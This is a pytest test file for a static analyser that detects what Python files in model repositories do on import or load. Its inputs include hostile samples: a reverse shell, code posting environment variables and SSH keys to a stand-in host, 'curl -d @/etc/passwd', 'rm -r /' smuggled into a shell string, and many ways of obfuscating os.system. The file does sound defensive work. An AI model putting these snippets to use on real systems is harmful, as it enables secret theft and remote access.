"""What Python source does, and when, seen without running it."""

from __future__ import annotations

import base64
import contextlib
import zlib

import pytest

from assay.core.errors import FormatError
from assay.formats.budget import Budget, LimitReached, Limits
from assay.formats.repository.python import read
from assay.formats.repository.python_effects import Does, When
from assay.formats.source import Memory


def effects(source: str | bytes, name: str = "modeling_x.py") -> set[tuple[Does, When]]:
    """What a file does."""
    data = source.encode() if isinstance(source, str) else source
    return {(effect.does, effect.when) for effect in read(Memory(data), Budget(), name).effects}


HIDDEN = base64.b64encode(zlib.compress(b"import os\nos.system('true')\n")).decode()

COMMANDS = [
    "import os\nos.system('true')",
    "import os as o\no.system('true')",
    "from os import system as s\ns('true')",
    "from subprocess import *\nimport subprocess\nsubprocess.run(['true'])",
    "__import__('os').system('true')",
    "__import__('o' + 's').system('true')",
    "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "import os\ngetattr(os, ''.join(['sys', 'tem']))('true')",
    "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')",
    "import os\nvars(os)['system']('true')",
    "import os\nos.__dict__['system']('true')",
    "import sys, os\nsys.modules['os'].system('true')",
    "import os\nglobals()['os'].system('true')",
    "import importlib\nimportlib.import_module('subprocess').call('true')",
    "import os\nrun = os.system\nrun('true')",
    "import os\nlist(map(os.system, ['true']))",
    "import os\nfor f in (os.system,):\n    f('true')",
    "import os\nclass A:\n    x = os.system('true')",
    "import os\ndef f(x=os.system('true')):\n    pass",
    "import os\ndef f():\n    os.system('true')\nf()",
    "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(s):\n        os.system('true')\nA()",
    "import os\ndef deco(f):\n    os.system('true')\n    return f\n@deco\ndef g(): pass",
    "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('true')\nclass A(metaclass=M): pass",
    "import os\nclass B:\n    def __init_subclass__(c):\n        os.system('true')\nclass A(B): pass",
    "import os, threading\ndef f():\n    os.system('true')\nthreading.Thread(target=f).start()",
    "import os, atexit\natexit.register(os.system, 'true')",
    "try:\n    import nothing\nexcept ImportError:\n    import os\n    os.system('true')",
    "import os\nif True:\n    os.system('true')",
    "import os\nwith open('x') as f:\n    os.system('true')",
    "import posix\nposix.system('true')",
    "import builtins\nbuiltins.__import__('os').system('true')",
    "__builtins__['eval'] and __builtins__.__import__('os').system('true')",
    "exec(\"import os\\nos.system('true')\")",
    "eval(\"__import__('os').system('true')\")",
    f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{HIDDEN}')))",
    "(lambda: __import__('os').system('true'))()",
    "[__import__('os').system('true') for _ in [1]]",
    "import os\nassert os.system('true') == 0",
    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('true')\nasyncio.run(f())",
    "import os\n(system := os.system)('true')",
    "import os\nos.posix_spawn('/bin/true', ['true'], {})",
    "import pty\npty.spawn('/bin/sh')",
]


@pytest.mark.parametrize("source", COMMANDS)
def test_a_command_on_import_is_seen_however_it_is_written(source):
    """Aliases, pieces of names, reflection and detours do not hide what is called."""
    assert (Does.COMMAND, When.IMPORT) in effects(source)


@pytest.mark.parametrize(
    ("source", "does"),
    [
        (f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{HIDDEN}')))", Does.HIDDEN),
        ("import base64\ncode = base64.b64decode('cHJpbnQoMSk=')\nexec(compile(code, 'x', 'exec'))", Does.HIDDEN),
        ("import marshal\nexec(marshal.loads(b'...'))", Does.HIDDEN),
        ("exec(bytes([112, 97, 115, 115]))", Does.HIDDEN),
        ("import requests\nexec(requests.get('http://a/b').text)", Does.DOWNLOADED),
        ("from urllib.request import urlopen as u\neval(u('http://a').read().decode())", Does.DOWNLOADED),
        ("import os, requests\nrequests.post('http://a', json=dict(os.environ))", Does.EXPOSES),
        (
            "import json, os, urllib.request as r\nr.urlopen('http://a', data=json.dumps(dict(os.environ)).encode())",
            Does.EXPOSES,
        ),
        ("import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('http://a', data=k)", Does.EXPOSES),
        (
            "import socket, os, pty\ns = socket.socket()\ns.connect(('a', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
            Does.SHELL,
        ),
        ("open('/root/.bashrc', 'a').write('x')", Does.PLANTS),
        ("import pickle\npickle.loads(b'')", Does.UNPICKLES),
        ("import torch\ntorch.load('x')", Does.UNPICKLES),
        ("import ctypes\nctypes.CDLL('./x.so')", Does.NATIVE),
        ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", Does.INSTALLS),
        ("import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])", Does.ASKS),
        ("import subprocess as s\nc = ['ffmpeg', '-i', x]\ns.Popen(c)", Does.ASKS),
        ("import subprocess as s\nc = ['ffmpeg']\nc = evil()\ns.Popen(c)", Does.COMMAND),
        ("import subprocess\nsubprocess.call('pip install x --index-url http://a/', shell=True)", Does.COMMAND),
        ("import subprocess\nsubprocess.call('git log; rm -r /', shell=True)", Does.COMMAND),
    ],
)
def test_effects_are_told_apart(source, does):
    """Each sort of harm has its own word."""
    assert (does, When.IMPORT) in effects(source)


@pytest.mark.parametrize(
    ("source", "name", "when"),
    [
        ("import os\nif __name__ == '__main__':\n    os.system('true')", "x.py", When.SCRIPT),
        ("import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('true')", "setup.py", When.SCRIPT),
        ("import os\nif __name__ != '__main__':\n    os.system('true')", "x.py", When.IMPORT),
        ("import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('true')", "x.py", When.IMPORT),
        ("import os\ndef f():\n    os.system('true')", "x.py", When.CALLED),
        ("import os\nclass A(PreTrainedModel):\n    def forward(self):\n        os.system('true')", "x.py", When.LOAD),
        (
            "import os\nclass A(nn.Module):\n    def __init__(self):\n        run()\ndef run():\n    os.system('x')",
            "x.py",
            When.LOAD,
        ),
        (
            "import os\nclass EndpointHandler:\n    def __init__(self, path):\n        os.system('true')",
            "handler.py",
            When.LOAD,
        ),
        ("import os\ndef model_fn(d):\n    os.system('true')", "inference.py", When.LOAD),
        ("import os\ndef _load_pyfunc(p):\n    os.system('true')", "loader.py", When.LOAD),
        ("import os\ndef generate(model):\n    os.system('true')", "generate.py", When.LOAD),
        ("import os\ndef generate(model):\n    os.system('true')", "x.py", When.CALLED),
        ("import os\ndef net():\n    os.system('true')", "hubconf.py", When.LOAD),
        (
            "import os\nclass T(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('1')",
            "t.py",
            When.LOAD,
        ),
    ],
)
def test_when_code_runs_is_told(source, name, when):
    """On import, when a framework calls it, as a program, or only when somebody calls it."""
    assert {found for does, found in effects(source, name) if does is Does.COMMAND} == {when}


MODELING = '''
# coding=utf-8
# Copyright 2024 Somebody. Licensed under the Apache License, Version 2.0
"""PyTorch model."""
import math
import os
import warnings
from typing import List, Optional, Tuple, Union, TYPE_CHECKING

import torch
import torch.nn.functional as F
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging
from .configuration_x import XConfig

if TYPE_CHECKING:
    import subprocess

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

logger = logging.get_logger(__name__)
if os.environ.get("X_DEBUG"):
    torch.manual_seed(0)
ACT = {"gelu": F.gelu, "relu": getattr(F, "relu")}


class XAttention(nn.Module):
    def __init__(self, config: XConfig):
        super().__init__()
        self.q = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x, mask: Optional[torch.Tensor] = None):
        scores = torch.matmul(self.q(x), x.transpose(-1, -2)) * self.scale
        return torch.softmax(scores, dim=-1, dtype=torch.float32).to(x.dtype) @ x


class XModel(PreTrainedModel):
    config_class = XConfig

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)

    def load_vision(self, path):
        return self.load_state_dict(torch.load(path, weights_only=True))

    @torch.no_grad()
    def chat(self, tokenizer, query, **kwargs):
        model_inputs = tokenizer([query], return_tensors="pt").to(self.device)
        return tokenizer.decode(self.generate(**model_inputs)[0].compile())
'''


def test_an_ordinary_model_does_nothing_that_is_told():
    """Imports, classes, layers, flags from the environment: none of it is an effect."""
    assert effects(MODELING) == set()


@pytest.mark.parametrize("cookie", ["utf-7", "unicode_escape", "raw-unicode-escape", "rot13"])
def test_an_encoding_in_which_code_hides_is_told(cookie):
    """The first lines decide how Python reads the rest."""
    source = f"#!/usr/bin/python\n# -*- coding: {cookie} -*-\nx = 1\n".encode()
    try:
        assert read(Memory(source), Budget(), "x.py").coding == cookie
    except FormatError:
        assert cookie == "rot13"


@pytest.mark.parametrize("cookie", ["utf-8", "latin-1", "cp1252", "ascii", "iso-8859-15", "utf8", "euc-jp"])
def test_an_ordinary_encoding_is_silent(cookie):
    """So are old files of all countries."""
    assert read(Memory(f"# -*- coding: {cookie} -*-\nx = 1\n".encode()), Budget(), "x.py").coding == ""


def test_code_hidden_by_the_encoding_is_seen():
    """What Python would run is what is judged: under this encoding a comment ends where it says so."""
    source = b"# coding: unicode_escape\nx = 1 # \\nimport os; os.system('true')\n"
    assert (Does.COMMAND, When.IMPORT) in effects(source)


@pytest.mark.parametrize("source", ["print 'a'", "def f(:\n", "x = \0", "\t if"])
def test_what_cannot_be_parsed_is_told(source):
    """A file that this Python cannot parse may run in another: it is no clean file."""
    with pytest.raises(FormatError, match="cannot be parsed"):
        effects(source)


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "(" * 5_000 + ")" * 5_000,
        "x = " + "-" * 100_000 + "1",
        "x = " + "not " * 50_000 + "1",
        "x = a" + ".b" * 50_000,
        "x = a" + "()" * 5_000,
        "x = " + "lambda: " * 5_000 + "1",
        "x = " + " + ".join(["a"] * 20_000),
        "x = a" + ".replace('a', 'b')" * 2_000,
        "".join("    " * n + "if x:\n" for n in range(99)) + "    " * 99 + "pass",
        "if x: pass\n" + "elif x: pass\n" * 3_000,
    ],
)
def test_depth_ends_in_an_answer(source):
    """No expression exhausts the stack or takes for ever."""
    with contextlib.suppress(FormatError):
        effects(source)


def test_time_is_bounded():
    """The budget's clock is looked at while the tree is walked."""
    times = iter(range(10**9))
    budget = Budget(Limits(seconds=3), clock=lambda: float(next(times)))
    with pytest.raises(LimitReached):
        read(Memory(b"f(1)\n" * 4_000), budget, "x.py")


def test_facts_tell_a_folder_what_the_file_does():
    """Rules that know who loads the file read them."""
    view = read(Memory(b"import os\nos.system('true')\n"), Budget(), "x.py")
    assert [(fact.kind, fact.value) for fact in view.facts()] == [
        ("does", "COMMAND IMPORT 2 os.system"),
        ("imports", "os"),
    ]


def test_facts_tell_a_folder_what_the_file_has_to_do_with_others():
    """What it calls of the files beside it, and what its own functions do when those call them."""
    source = b"import os\nfrom .a import go\nfrom . import b\ngo()\ndef run():\n    os.system('true')\n    b.walk()\n"
    facts = {(fact.kind, fact.value) for fact in read(Memory(source), Budget(), "x.py").facts()}
    assert {("imports", ".a"), ("imports", ".b"), ("calls", "IMPORT .a go")} <= facts
    assert {("offers", "run COMMAND 6 os.system"), ("offers", "run CALLS . b.walk")} <= facts


ROUNDABOUT = [
    "import builtins\ngetattr(builtins, 'ex' + 'ec')('x')",
    "globals()['__builtins__']['eval']('1')",
    "__builtins__['ex' + 'ec']('1')",
    "exec(''.join(map(chr, [105, 109])))",
    "exec(chr(105) + chr(109))",
    "exec(''.join(chr(n) for n in [105, 109]))",
    "import os\ndef f():\n    return getattr(os, 'sys' + 'tem')\nf()('true')",
    "import os, operator\noperator.methodcaller('system', 'true')(os)",
]


@pytest.mark.parametrize("source", ROUNDABOUT)
def test_names_reached_in_a_roundabout_way_are_hidden_code(source: str) -> None:
    """Who takes a name apart wants that nobody finds it: that is told, whatever is then called with it."""
    assert (Does.HIDDEN, When.IMPORT) in effects(source)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("from os import *\nsystem('true')", (Does.COMMAND, When.IMPORT)),
        ("import os\n[os.system][0]('true')", (Does.COMMAND, When.IMPORT)),
        ("import runpy\nrunpy.run_path('x')", (Does.RUNS_FILE, When.IMPORT)),
        ("import ctypes\nctypes.CDLL('/tmp/x.so')", (Does.NATIVE, When.IMPORT)),
        ("def forward(x):\n    import os\n    os.execv('/bin/sh', ['sh'])", (Does.COMMAND, When.LOAD)),
        ("import os\nclass M:\n    def __init__(self):\n        os.system('true')", (Does.COMMAND, When.MADE)),
        ("import torch\ntorch.ops.load_library('x.so')", (Does.NATIVE, When.IMPORT)),
    ],
)
def test_other_ways_to_the_same_end(source: str, expected: tuple[Does, When]) -> None:
    """Star imports, lists of functions, other files, native libraries, methods that loading calls."""
    assert expected in effects(source)


@pytest.mark.parametrize(
    "source",
    [
        "import torch\ngetattr(torch, 'float' + '16')",
        "getattr(self, 'layer' + str(1))",
        "x = vars(self)['eval']",
        "globals()['Model']()",
        "import ctypes\nctypes.CDLL('libc.so.6')\nctypes.CDLL(None)\nctypes.CDLL(ctypes.util.find_library('c'))",
        "import sys\nsys.modules['os']",
        "from typing import *\nprint(chr(10))",
        "import operator\noperator.attrgetter('weight')",
        "a = [1, 2][0]\nname = ''.join(chr(n) for n in [97, 98])",
    ],
)
def test_honest_reflection_is_silent(source: str) -> None:
    """Attributes by computed names, tables of modules, the C library, characters by number."""
    assert effects(source) == set()


def test_an_encoding_in_which_code_hides_is_told_even_where_this_python_cannot_read_it() -> None:
    """What stands there is not known, and the file says so itself."""
    view = read(Memory(b"# coding: rot13\nvzcbeg bf\n"), Budget(), "x.py")
    assert view.coding == "rot13"
    assert view.problems


FURTHER = [
    "import os\nD = {'a': os.system}\nD['a']('true')",
    "import os\nfs = [len, os.system]\nfor f in fs[1:]:\n    f('true')",
    "import os\nclass A:\n    def __init__(self):\n        self.r = os.system\nA().r('true')",
    "import os\nclass A:\n    r = os.system\nA.r('true')",
    "import os\nclass A:\n    @property\n    def x(self):\n        os.system('true')\nA().x",
    "import os\nclass G:\n    def __class_getitem__(cls, k):\n        os.system(k)\nclass A(G['true']): pass",
    "import os\nclass A:\n    x: os.system('true') = 1",
    "import os\ndef f(a: os.system('true')): pass",
    "import os\nmatch os:\n    case object(system=f):\n        f('true')",
    "import torch\ntorch.os.system('true')",
    "import random\nrandom._os.system('true')",
    "import sys\nm = sys.modules.get('posix') or sys.modules['os']\nm.system('true')",
    "getattr(__import__('%s%s' % ('o', 's')), '{}{}'.format('sys', 'tem'))('true')",
    (
        "import sys\nclass F:\n    def find_spec(self, *a):\n        import os\n        os.system('true')\n"
        "sys.meta_path.insert(0, F())"
    ),
]


@pytest.mark.parametrize("source", FURTHER)
def test_a_command_reached_through_what_holds_it(source):
    """Tables, attributes, properties, annotations, patterns, other modules' imports, and what finds modules."""
    assert (Does.COMMAND, When.IMPORT) in effects(source)


@pytest.mark.parametrize(
    ("source", "does"),
    [
        ("s = ''.join(chr(ord(c) ^ 7) for c in 'nwjhus')\nexec(s)", Does.HIDDEN),
        ("().__class__.__base__.__subclasses__()[0].__init__.__globals__['system']('true')", Does.HIDDEN),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", Does.PLANTS),
        ("from pathlib import Path\nPath.home().joinpath('.ssh/authorized_keys').write_text('x')", Does.PLANTS),
        ("import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')", Does.PLANTS),
        ("import subprocess as s\ns.run(['pget', '-x', url, dest])", Does.NETWORK),
        ("import subprocess as s\ns.run(['curl', '-d', '@/etc/passwd', url])", Does.COMMAND),
        ("import subprocess as s\ns.run(['curl', '-o', '/root/.bashrc', url])", Does.COMMAND),
        ("import subprocess as s\ns.check_output([home + '/bin/nvcc', '-V'])", Does.ASKS),
        ("import subprocess as s\ns.check_output([home + '/bin/nvcc', 'x.cu'])", Does.COMMAND),
        ("import subprocess as s\ns.check_output([home + '/bin/other', '-V'])", Does.COMMAND),
    ],
)
def test_effects_by_what_is_known_of_the_arguments(source, does):
    """Paths that are put together, and command lines of which the end or some words are known."""
    assert (does, When.IMPORT) in effects(source)


def test_annotations_that_nobody_works_out():
    """With the future import they stay text."""
    source = (
        "from __future__ import annotations\nimport os\nx: os.system('true') = 1\ndef f(a: os.system('true')): pass"
    )
    assert effects(source) == set()


def test_a_pickle_written_out_is_a_member():
    """It is looked at as a file of its own."""
    code = "import pickle, base64\npickle.loads(base64.b64decode('gASMBXBvc2l4lC4='))"
    (member,) = read(Memory(code.encode()), Budget(), "x.py").members()
    assert member.source.read(0, 4) == b"\x80\x04\x8c\x05"


def test_a_table_written_as_a_program_is_not_parsed():
    """Its tree would take hundreds of megabytes; words in strings and comments do not count."""
    with pytest.raises(FormatError, match="LIMIT parts"):
        read(Memory(b"x = [" + b"1," * 300_000 + b"]"), Budget(), "x.py")
    read(Memory(b"x = '" + b"1," * 300_000 + b"'  # " + b"1," * 300_000), Budget(), "x.py")
